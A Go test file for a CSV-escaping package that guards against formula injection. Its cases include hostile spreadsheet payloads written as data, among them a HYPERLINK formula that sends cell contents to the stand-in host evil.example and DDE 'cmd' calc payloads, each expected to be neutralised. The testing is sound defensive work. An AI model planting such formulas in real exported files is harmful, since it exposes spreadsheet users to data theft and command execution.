package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestEscape(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"=1+2", "'=1+2"},
		{"+1+2", "'+1+2"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'\r=1+2"},
		{"-", "'-"},
		{"-1e5", "'-1e5"},
		{"+500", "'+500"},
		{"-500", "-500"},
		{"-12.50", "-12.50"},
		{"0", "0"},
		{"1500", "1500"},
		{"", ""},
		{"Acme Inc.", "Acme Inc."},
		{"ann@example.com", "ann@example.com"},
		{"a=b", "a=b"},
		{"'hello", "'hello"},
		{"'=1+2", "''=1+2"},
		{"''@x", "'''@x"},
		{"'-500", "''-500"},
		{"2026-01-01", "2026-01-01"},
		{"{\"a\":1}", "{\"a\":1}"},
	} {
		if got := Escape(tc.in); got != tc.want {
			t.Errorf("Escape(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := Unescape(Escape(tc.in)); got != tc.in {
			t.Errorf("Unescape(Escape(%q)) = %q", tc.in, got)
		}
	}
}

func TestWriterEscapesEveryCell(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Write([]string{"=cmd", "Ann", "-500", "@x"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	rec, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=cmd", "Ann", "-500", "'@x"}
	for i := range want {
		if rec[i] != want[i] {
			t.Fatalf("record %q, want %q", rec, want)
		}
	}
}
